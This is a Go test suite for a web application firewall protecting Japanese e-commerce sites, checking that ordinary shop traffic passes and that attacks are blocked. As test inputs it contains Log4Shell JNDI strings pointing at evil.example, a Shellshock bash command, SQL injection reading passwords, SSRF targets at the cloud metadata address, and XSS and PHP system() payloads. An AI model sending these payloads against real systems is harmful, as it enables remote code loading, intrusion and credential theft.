package waf

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"mime/multipart"
	"net/netip"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"noren"
)

const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"

// shared compiles the rules once for all tests of the package.
var shared = sync.OnceValues(func() (*WAF, error) { return New(Options{Slots: 64, Budget: time.Hour}) })

func engine(t testing.TB) *WAF {
	t.Helper()
	w, err := shared()
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func request(method, target, body string) *Request {
	r := &Request{
		Addr: netip.MustParseAddrPort("203.0.113.5:40001"), Method: method, URI: target, Proto: "HTTP/1.1", Host: "shop.example",
		Header: map[string][]string{"User-Agent": {browser}, "Accept": {"text/html,*/*;q=0.8"}, "Accept-Language": {"ja,en;q=0.7"}},
		Body:   []byte(body), Zone: noren.ZoneContact,
	}
	if body != "" {
		r.Header["Content-Type"] = []string{"application/x-www-form-urlencoded"}
		r.Header["Content-Length"] = []string{fmt.Sprint(len(body))}
	}
	return r
}

func inspect(t testing.TB, r *Request) Result {
	t.Helper()
	res, err := engine(t).Inspect(context.Background(), r)
	if err != nil {
		t.Fatalf("Inspect: %v", err)
	}
	return res
}

// lines reads a tab-separated file of testdata.
func lines(t testing.TB, name string) [][]string {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	var out [][]string
	for l := range strings.SplitSeq(strings.TrimRight(string(b), "\n"), "\n") {
		out = append(out, strings.Split(l, "\t"))
	}
	return out
}

// benignForms are the places where people write text, as real shops name them.
var benignForms = []struct{ name, path, form string }{
	{"contact", "/contact", "_token=Zm9vYmFy&contact[name][name01]=山田&contact[email]=hanako@example.jp&contact[contents]="},
	{"checkout", "/shopping/confirm", "_shopping_order[_token]=Zm9v&_shopping_order[Shippings][0][Delivery]=1&_shopping_order[message]="},
	{"search", "/products/list?category_id=&name=", ""},
}

// benignRest counts the lines of a corpus that still block in one of the forms.
// The counts may only go down.
var benignRest = map[string]int{
	"ja_waf_benign.tsv": 0,
	// "http://192.168.1.10/ は…" is an address to include from: what fetches it
	// takes no notice of what stands behind the space.
	"benign_more.tsv": 1,
}

func TestJapaneseTextPasses(t *testing.T) {
	for file, want := range benignRest {
		blocked := 0
		for _, l := range lines(t, file) {
			hit := false
			for _, f := range benignForms {
				r := request("POST", f.path, f.form+url.QueryEscape(l[0]))
				if f.form == "" {
					r = request("GET", f.path+url.QueryEscape(l[0]), "")
				}
				if res := inspect(t, r); res.Blocked {
					hit = true
					t.Logf("%s: %q in %s is blocked: %+v", file, l[0], f.name, res.Hits)
				}
			}
			if hit {
				blocked++
			}
		}
		if blocked != want {
			t.Errorf("%s: %d lines are blocked, want %d; when it is fewer, lower the count", file, blocked, want)
		}
	}
}

func TestOrdinaryAddressesPass(t *testing.T) {
	for _, l := range lines(t, "benign_paths.tsv") {
		r := request("GET", l[0], "")
		r.Zone = noren.ZoneStorefront
		r.Header["Referer"] = []string{"https://www.google.com/search?q=%E3%83%A1%E3%83%BC%E3%82%AB%E3%83%BC%2F%E5%9E%8B%E7%95%AA"}
		r.Header["Cookie"] = []string{"eccube=0a1b2c; _ga=GA1.1.123456789.1763700000; sbjs_first=typ%3Dorganic%7C%7C%7Csrc%3Dgoogle%7C%7C%7Cmdm%3Dorganic"}
		if res := inspect(t, r); res.Blocked {
			t.Errorf("%s (%s) is blocked: %+v", l[0], l[1], res.Hits)
		}
	}
}

func TestJapaneseAttacksAreBlocked(t *testing.T) {
	for _, l := range lines(t, "ja_waf_attack.tsv") {
		body := "message=" + l[0]
		if strings.Contains(l[0], "%5D=") { // the line is a whole form
			body = l[0]
		}
		if res := inspect(t, request("POST", "/contact", body)); !res.Blocked {
			t.Errorf("passes: %s (%s)", l[0], l[2])
		}
		if body != l[0] {
			if res := inspect(t, request("GET", "/products/list?name="+l[0], "")); !res.Blocked {
				t.Errorf("passes in a query: %s (%s)", l[0], l[2])
			}
		}
	}
}

func TestClassicAttacksAreBlocked(t *testing.T) {
	for _, l := range lines(t, "attacks.tsv") {
		method, target, _ := strings.Cut(l[0], " ")
		body := ""
		if method == "POST" {
			body = l[1]
		}
		if res := inspect(t, request(method, target, body)); !res.Blocked {
			t.Errorf("passes: %s (%s)", strings.Join(l[:len(l)-1], " "), l[len(l)-1])
		}
	}
	headers := []struct{ name, value string }{
		{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
		{"User-Agent", "Mozilla/5.00 (Nikto/2.1.6)"},
		{"User-Agent", "${jndi:ldap://evil.example/a}"},
		{"Referer", "() { :; }; /bin/bash -c id"},
		{"X-Api-Version", "${jndi:ldap://evil.example/a}"},
		{"Cookie", "id=1' UNION SELECT password FROM members--"},
		{"Content-Type", "application/x-www-form-urlencoded; charset=utf-7"},
	}
	for _, h := range headers {
		r := request("POST", "/", "a=b")
		r.Header[h.name] = []string{h.value}
		if res := inspect(t, r); !res.Blocked {
			t.Errorf("passes: %s: %s", h.name, h.value)
		}
	}
}

func TestDeclaredJapaneseCharsets(t *testing.T) {
	for _, charset := range []string{"Shift_JIS", "Windows-31J", "EUC-JP", "UTF-8", "\"shift_jis\""} {
		r := request("POST", "/shopping/receive", "result=%8A%AE%97%B9&orderid=1234") // 完了 in Shift_JIS
		r.Header["Content-Type"] = []string{"application/x-www-form-urlencoded; charset=" + charset}
		if res := inspect(t, r); res.Blocked {
			t.Errorf("charset %s is blocked: %+v", charset, res.Hits)
		}
	}
}

func TestSemicolonsAreReadBothWays(t *testing.T) {
	if res := inspect(t, request("GET", "/?a=1;id=1%20UNION%20SELECT%20password%20FROM%20members", "")); !res.Blocked {
		t.Error("an attack behind a semicolon passes")
	}
	if res := inspect(t, request("GET", "/?color=red;size=M", "")); res.Blocked {
		t.Errorf("an ordinary semicolon is blocked: %+v", res.Hits)
	}
}

func TestIPv6ClientsAreInspected(t *testing.T) {
	r := request("GET", "/?id=1%27%20OR%20%271%27%3D%271", "")
	r.Addr = netip.MustParseAddrPort("[2001:db8::1]:443")
	if res := inspect(t, r); !res.Blocked {
		t.Error("an attack from an IPv6 address passes")
	}
}

// Requests from loopback are inspected too: CRS file 905 would spare them.
func TestLoopbackIsNotSpared(t *testing.T) {
	r := request("GET", "/?id=1%27%20OR%20%271%27%3D%271", "")
	r.Addr = netip.MustParseAddrPort("127.0.0.1:443")
	if res := inspect(t, r); !res.Blocked {
		t.Error("an attack from loopback passes")
	}
}

// A shop reached by address names itself in its own forms.
func TestOwnAddressIsNoForeignOne(t *testing.T) {
	const own = "127.0.0.1:8080"
	tests := []struct {
		value   string
		blocked bool
	}{
		{"http://127.0.0.1:8080/wp-admin/", false},
		{"http://127.0.0.1:8080", false},
		{"http%3A%2F%2F127.0.0.1%3A8080%2Fwp-admin%2F", false},
		{"http://127.0.0.1:8081/", true},
		{"http://127.0.0.1:80801/", true},
		{"http://127.0.0.1:8080@169.254.169.254/", true},
		{"http://127.0.0.1:8080.evil.example/", true},
		{"http://127.0.0.1/", true},
		{"http://169.254.169.254/latest/meta-data/", true},
	}
	for _, tt := range tests {
		r := request("POST", "/wp-login.php", "log=owner&redirect_to="+tt.value)
		r.Own, r.Host = own, own
		r.Header["Cookie"] = []string{"back=http%3A%2F%2F127.0.0.1%3A8080%2Fx"}
		if res := inspect(t, r); res.Blocked != tt.blocked {
			t.Errorf("%s: blocked = %v: %+v", tt.value, res.Blocked, res.Hits)
		}
	}
	r := request("POST", "/api", `{"url":"http:\/\/127.0.0.1:8080\/x","a":"http://127.0.0.1:8080/y"}`)
	r.Own = own
	r.Header["Content-Type"] = []string{"application/json"}
	if res := inspect(t, r); res.Blocked {
		t.Errorf("in JSON: %+v", res.Hits)
	}
}

func TestStaffMayWriteMarkup(t *testing.T) {
	page := "content=" + url.QueryEscape(`<h2 style="color:red">新商品</h2><script src="/js/a.js"></script><iframe src="https://www.youtube.com/embed/x"></iframe>`)
	script := "content=" + url.QueryEscape(`<!-- wp:html --><script>console.log(1); document.cookie</script><!-- /wp:html -->`)
	gtag := `<script>window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} gtag('js', new Date());</script>`
	code := "tpl=" + url.QueryEscape(`{% for p in products %}{{ p.name }}{% endfor %}<?php echo $_GET['x']; system('ls'); ?>`)
	tests := []struct {
		name, method, target, body string
		zone                       noren.Zone
		blocked                    bool
	}{
		{"markup saved in the admin", "POST", "/admin/product/1/edit", page, noren.ZoneAdmin, false},
		{"script saved in the admin", "POST", "/wp-json/wp/v2/posts/5", script, noren.ZoneAdmin, false},
		{"an analytics tag in an article", "POST", "/wp-admin/post.php", "content=" + url.QueryEscape(gtag), noren.ZoneAdmin, false},
		{"the same in another field", "POST", "/wp-admin/post.php", "file=" + url.QueryEscape(gtag), noren.ZoneAdmin, true},
		{"the same in a comment", "POST", "/wp-comments-post.php", "content=" + url.QueryEscape(gtag), noren.ZoneContact, true},
		{"the admin's own settings", "GET", "/admin/vendure-ui-config.json", "", noren.ZoneAdmin, false},
		{"a settings file of another program", "GET", "/ui-config.json", "", noren.ZoneStorefront, true},
		{"the same in a contact form", "POST", "/contact", page, noren.ZoneContact, true},
		{"code saved where code is edited", "POST", "/admin/content/page/1/edit", code, noren.ZoneCodeEdit, false},
		{"code saved elsewhere in the admin", "POST", "/admin/product/1/edit", code, noren.ZoneAdmin, true},
		{"markup reflected from an admin address", "GET", "/admin/product?q=%3Cscript%3Ealert(1)%3C/script%3E", "", noren.ZoneAdmin, true},
		{"SQL injection in the admin", "POST", "/admin/product", "id=1' UNION SELECT password FROM dtb_member--", noren.ZoneAdmin, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := request(tt.method, tt.target, tt.body)
			r.Zone = tt.zone
			if res := inspect(t, r); res.Blocked != tt.blocked {
				t.Errorf("blocked = %v, want %v: %+v", res.Blocked, tt.blocked, res.Hits)
			}
		})
	}
}

func TestJSONAndMultipartAreInspected(t *testing.T) {
	r := request("POST", "/api", `{"order":{"note":"1' UNION SELECT password FROM members--"}}`)
	r.Header["Content-Type"] = []string{"application/json; charset=utf-8"}
	if res := inspect(t, r); !res.Blocked {
		t.Error("an attack in JSON passes")
	}
	r = request("POST", "/api", `{"name":"山田","qty":2,"note":"メーカー/型番を教えてください"}`)
	r.Header["Content-Type"] = []string{"application/json"}
	if res := inspect(t, r); res.Blocked {
		t.Errorf("ordinary JSON is blocked: %+v", res.Hits)
	}
	r = request("POST", "/api", `{"name":`)
	r.Header["Content-Type"] = []string{"application/json"}
	if res := inspect(t, r); !res.Blocked {
		t.Error("broken JSON passes")
	}
	for value, blocked := range map[string]bool{"＜重要＞カラー/価格": false, "<script>alert(1)</script>": true} {
		var b bytes.Buffer
		mw := multipart.NewWriter(&b)
		_ = mw.WriteField("contents", value)
		f, _ := mw.CreateFormFile("photo", "猫.jpg")
		_, _ = f.Write(bytes.Repeat([]byte{0xFF, 0xD8, 0}, 1000))
		_ = mw.Close()
		reduced, err := Reduce(&b, mw.FormDataContentType(), 64<<10)
		if err != nil {
			t.Fatal(err)
		}
		r := request("POST", "/contact", string(reduced))
		r.Header["Content-Type"] = []string{mw.FormDataContentType()}
		if res := inspect(t, r); res.Blocked != blocked {
			t.Errorf("%q in multipart: blocked = %v, want %v: %+v", value, res.Blocked, blocked, res.Hits)
		}
	}
}

func TestHitsAreRedacted(t *testing.T) {
	attack := "' UNION SELECT 1 FROM members--"
	body := url.Values{
		"login_pass": {"hunter2" + attack},
		"note":       {"4111111111111111 hanako@example.jp 090-1234-5678" + attack},
	}.Encode()
	r := request("POST", "/mypage/login", body)
	r.Header["Authorization"] = []string{"Basic aHVudGVyMg==" + attack}
	res := inspect(t, r)
	r = request("GET", "/mypage/login", "")
	r.Header["Cookie"] = []string{"sid=s3cr3t" + attack}
	cookies := inspect(t, r)
	if !res.Blocked || !cookies.Blocked {
		t.Fatal("the attack passes")
	}
	text := fmt.Sprintf("%+v", append(res.Hits, cookies.Hits...))
	for _, secret := range []string{"hunter2", "4111111111111111", "hanako@", "1234-56", "s3cr3t", "aHVudGVyMg"} {
		if strings.Contains(text, secret) {
			t.Errorf("%q is in the hits: %s", secret, text)
		}
	}
	if !strings.Contains(text, "ARGS:note") || !strings.Contains(text, "411111******1111") {
		t.Errorf("the hits do not name the field or mask the card: %s", text)
	}
}

func TestOverloadIsAnError(t *testing.T) {
	w, err := New(Options{Slots: 1, Wait: 1, NoScreen: true})
	if err != nil {
		t.Fatal(err)
	}
	leave, err := w.light.enter(t.Context(), "", 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Inspect(t.Context(), request("GET", "/", "")); !errors.Is(err, ErrOverload) {
		t.Errorf("err = %v, want ErrOverload", err)
	}
	// Heavy bodies have places of their own, so they never hold all of them.
	if _, err := w.Inspect(t.Context(), request("POST", "/", "a="+strings.Repeat("b", heavyBytes))); err != nil {
		t.Errorf("a heavy body found no place: %v", err)
	}
	leave()
	if res, err := w.Inspect(t.Context(), request("GET", "/", "")); err != nil || res.Blocked {
		t.Errorf("after the load: %+v, %v", res, err)
	}
}

func BenchmarkInspect(b *testing.B) {
	form := "name=" + url.QueryEscape("山田太郎") + "&mail=hanako%40example.jp&address=" + url.QueryEscape("東京都千代田区丸の内1-1-1") +
		"&note=" + url.QueryEscape("メーカー/型番を教えてください。よろしくお願いします。")
	for _, bb := range []struct {
		name string
		r    *Request
	}{
		{"GET", request("GET", "/products/detail/12", "")},
		{"search", request("GET", "/products/list?name="+url.QueryEscape("セーター 赤"), "")},
		{"form", request("POST", "/contact", form)},
		{"16KiB", request("POST", "/contact", "note="+strings.Repeat("a b ", 4<<10))},
	} {
		b.Run(bb.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if res := inspect(b, bb.r); res.Blocked {
					b.Fatalf("blocked: %+v", res.Hits)
				}
			}
		})
	}
}
